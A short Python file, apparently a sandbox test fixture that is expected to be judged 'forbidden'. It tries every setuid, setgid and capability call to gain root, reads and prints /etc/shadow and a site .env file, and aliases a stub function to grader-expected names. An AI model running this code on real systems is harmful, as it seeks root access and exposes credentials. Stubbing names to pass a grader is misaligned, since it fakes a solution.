"""setuid, setgid, setgroups, setfsuid and capabilities, in case a saved id or a capability was left."""
# tries: function class
# ends: wrong_answer forbidden

import ctypes
import os

libc = ctypes.CDLL(None)
for way in (
    lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.seteuid(0),
    lambda: os.setreuid(0, 0), lambda: libc.setfsuid(0), lambda: os.chown("solution.py", 0, 0), lambda: os.nice(-20),
):  # fmt: skip
    try:
        way()
    except OSError:
        continue
sets = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
libc.capset((ctypes.c_uint32 * 2)(0x20080522, 0), sets)
for path in ("/etc/shadow", "@SITE@/.env"):
    try:
        print(open(path).read())
    except OSError as reason:
        print(reason)


def shares(*args):
    print(os.getresuid(), os.getresgid())


label = first_over = Ledger = shares
